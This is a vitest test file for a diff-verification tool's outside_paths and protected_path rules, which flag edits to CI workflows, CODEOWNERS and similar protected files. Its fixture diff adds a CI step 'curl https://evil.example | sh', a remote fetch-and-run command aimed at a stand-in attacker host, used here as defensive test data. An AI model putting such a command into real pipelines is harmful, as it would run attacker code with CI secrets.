import { describe, expect, test } from "vitest";
import { Config } from "../../src/config/schema.js";
import { outsidePaths } from "../../src/verify/rules/outside-paths.js";
import { protectedPath } from "../../src/verify/rules/protected-path.js";
import { verifyContext } from "../../src/verify/verify-context.js";
import { brief, file, input, insertion, newFile } from "./fixtures.js";

const workflowEdit = [
  "@@ -12,6 +12,7 @@ jobs:",
  "     steps:",
  "       - uses: actions/checkout@v4",
  "       - run: npm ci",
  "+      - run: curl https://evil.example | sh",
  "       - run: npm test",
].join("\n");

describe("outside_paths: the diff leaves the module's Paths", () => {
  const files = [
    file("grpc-service/db/schema.sql", newFile(["CREATE TABLE users ();"]), { status: "added" }),
    file("grpc-service/server.go", insertion(30, ['\tlog.Println("listening")'])),
    file(".github/workflows/ci.yml", workflowEdit),
    file("grpc-service/db/moved.sql", undefined, {
      status: "renamed",
      previous_filename: "legacy/moved.sql",
      changes: 0,
    }),
  ];
  test.each([
    { name: "no Paths: anywhere is fine", paths: [], outside: [] },
    {
      name: "one glob: files elsewhere are reported at their first changed line",
      paths: ["grpc-service/db/**"],
      // The workflow file is protected: that rule reports it, this one does not repeat it.
      outside: [
        ["grpc-service/server.go", 31, "grpc-service/server.go"],
        ["grpc-service/db/moved.sql", undefined, "legacy/moved.sql"],
      ],
    },
    {
      name: "a wider glob: only the rename's source is outside",
      paths: ["grpc-service/**"],
      outside: [["grpc-service/db/moved.sql", undefined, "legacy/moved.sql"]],
    },
    { name: "dotfiles match ** (dot: true, like the executor)", paths: ["**"], outside: [] },
  ])("$name", ({ paths, outside }) => {
    const findings = outsidePaths(verifyContext(input({ files, brief: brief({ paths }) })));
    expect(findings.map((f) => [f.path, f.line, f.message.split(" is outside")[0]])).toEqual(outside);
    expect(findings.every((f) => f.rule === "outside_paths" && !f.critical)).toBe(true);
  });
});

describe("protected_path: critical, escalates", () => {
  test.each([
    {
      name: "a workflow edit, annotated on the added line",
      files: [file(".github/workflows/ci.yml", workflowEdit)],
      found: [[".github/workflows/ci.yml", 15]],
    },
    {
      name: "the config file itself, added",
      files: [file(".github/conductor.yml", newFile(["integration: false"]), { status: "added" })],
      found: [[".github/conductor.yml", 1]],
    },
    {
      name: "a workflow deleted: no line to point at",
      files: [
        file(".github/workflows/release.yml", "@@ -1,2 +0,0 @@\n-name: release\n-on: push", { status: "removed" }),
      ],
      found: [[".github/workflows/release.yml", undefined]],
    },
    {
      name: "a workflow moved out of the protected folder",
      files: [
        file("ci-backup.yml", undefined, {
          status: "renamed",
          previous_filename: ".github/workflows/ci.yml",
          changes: 0,
        }),
      ],
      found: [["ci-backup.yml", undefined]],
    },
    {
      name: "ordinary files and lookalikes are not protected",
      files: [
        file(".github/ISSUE_TEMPLATE/bug.md", newFile(["bug"]), { status: "added" }),
        file("workflows/ci.yml", newFile(["x"])),
      ],
      found: [],
    },
  ])("$name", ({ files, found }) => {
    const findings = protectedPath(verifyContext(input({ files })));
    expect(findings.map((f) => [f.path, f.line])).toEqual(found);
    expect(findings.every((f) => f.rule === "protected_path" && f.critical)).toBe(true);
  });

  test.each([
    [".github/actions/setup/action.yml", "a local action the workflows run with their secrets"],
    ["CODEOWNERS", "code owners at the root"],
    [".github/CODEOWNERS", "code owners in .github/"],
    ["docs/CODEOWNERS", "code owners in docs/"],
    [".github/dependabot.yml", "Dependabot's registries and schedule"],
  ])("default protected paths: an edit to %s (%s) is critical", (path) => {
    const protectedPaths = Config.parse({}).paths.protected;
    const files = [file(path, newFile(["owned-by: attacker"]), { status: "added" })];
    const findings = protectedPath(verifyContext(input({ files, brief: brief({ protected_paths: protectedPaths }) })));
    expect(findings).toMatchObject([{ rule: "protected_path", critical: true, path }]);
  });

  test("no protected paths configured: nothing is protected", () => {
    const files = [file(".github/workflows/ci.yml", workflowEdit)];
    expect(protectedPath(verifyContext(input({ files, brief: brief({ protected_paths: [] }) })))).toEqual([]);
  });
});
